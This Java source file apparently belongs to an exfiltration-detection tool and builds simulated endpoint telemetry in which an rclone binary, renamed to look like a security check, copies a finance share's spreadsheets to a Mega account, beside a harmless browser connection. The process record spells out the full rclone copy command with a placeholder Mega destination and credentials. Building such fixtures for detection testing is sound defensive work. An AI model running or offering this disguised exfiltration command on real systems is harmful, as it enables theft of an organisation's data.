package exfilwatch.simulate;

import java.io.ByteArrayOutputStream;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;

/**
 * One machine on which a renamed rclone copies a share to Mega, beside a browser that talks to
 * somebody else.
 *
 * @param starts shapes that record processes
 * @param network shapes that record connections and name queries
 */
record RenamedRclone(Endpoint host, List<Shape> starts, List<Shape> network) {

  static final String NAME = "TrendFileSecurityCheck.exe";
  static final String MEGA = "g.api.mega.co.nz";
  static final String MEGA_IP = "203.0.113.9";
  static final long PID = 34_000;
  static final long START = 1_772_618_400_123L;
  static final long END = START + 60_000;

  /**
   * @param starts names of shapes, joined by {@code +}
   * @param network likewise
   */
  static RenamedRclone on(Os os, int number, String starts, String network) {
    List<Shape> all = Shapes.named(starts);
    Endpoint host =
        Endpoint.of("WS-SRC-" + (100 + number), os, "10.20.1." + number, "m.keller", true, 0, all);
    return new RenamedRclone(host, all, Shapes.named(network));
  }

  /** A record, and when it was made. */
  @SuppressWarnings("ArrayRecordComponent") // bytes on their way to a file
  record Made(long time, byte[] json) {}

  /** All records in the order of their time. */
  List<Made> records() {
    RunningProcess rclone = rclone();
    RunningProcess browser = browser();
    List<Made> made = new ArrayList<>();
    for (int i = 0; i < starts.size(); i++) {
      // no two sensors see a start at the same time
      write(made, starts.get(i), Activity.start(rclone, START + 350L * i));
      write(made, starts.get(i), Activity.start(browser));
      write(made, starts.get(i), Activity.end(rclone, END + 10L * i));
    }
    for (Shape shape : network) {
      write(made, shape, Activity.lookup(rclone, START + 2_500, lookup()));
      write(made, shape, Activity.connect(rclone, START + 2_600, flow(50_123)));
      write(made, shape, Activity.connect(rclone, START + 9_000, flow(50_140)));
      write(made, shape, Activity.disconnect(rclone, START + 59_000, flow(50_140)));
      write(made, shape, Activity.connect(browser, START + 4_000, elsewhere()));
    }
    made.sort(Comparator.comparingLong(Made::time));
    return made;
  }

  static byte[] lines(List<Made> records) {
    ByteArrayOutputStream lines = new ByteArrayOutputStream();
    for (Made made : records) {
      lines.writeBytes(made.json());
      lines.write('\n');
    }
    return lines.toByteArray();
  }

  private static void write(List<Made> made, Shape shape, Activity activity) {
    if (shape.records(activity.kind())) {
      made.add(new Made(activity.time(), shape.record(activity, 40_000 + made.size())));
    }
  }

  private RunningProcess rclone() {
    Program program =
        host.os() == Os.WINDOWS
            ? RcloneCommand.windowsProgram("C:\\ProgramData\\" + NAME, true)
            : Program.of("/var/tmp/" + NAME);
    List<String> argv =
        List.of(
            program.path(),
            "copy",
            host.os() == Os.WINDOWS ? "\\\\files\\finance" : "/srv/finance",
            ":mega,user=drop@example.net,pass=EXAMPLEpass:fin",
            "--include",
            "*.xlsx",
            "--max-age",
            "2y",
            "--transfers",
            "16",
            "-P");
    RunningProcess shell = Residents.shell(host, START);
    return new RunningProcess(host, PID, START, program, argv, host.user(), shell);
  }

  private RunningProcess browser() {
    Program program =
        Program.of(
            host.os() == Os.WINDOWS ? "C:\\Program Files\\Chrome\\chrome.exe" : "/usr/bin/chrome");
    RunningProcess shell = Residents.shell(host, START);
    return new RunningProcess(
        host, PID + 40, START + 200, program, List.of(program.path()), host.user(), shell);
  }

  private static Activity.Lookup lookup() {
    return new Activity.Lookup(MEGA, "lb.example.net", MEGA_IP);
  }

  private Flow flow(int localPort) {
    return new Flow(true, "tcp", host.ip(), localPort, MEGA_IP, 443, 5_000_000_000L, 7_000, MEGA);
  }

  private Flow elsewhere() {
    return new Flow(
        true, "tcp", host.ip(), 50_130, "198.51.100.20", 443, 900, 4_000, "www.example.org");
  }
}
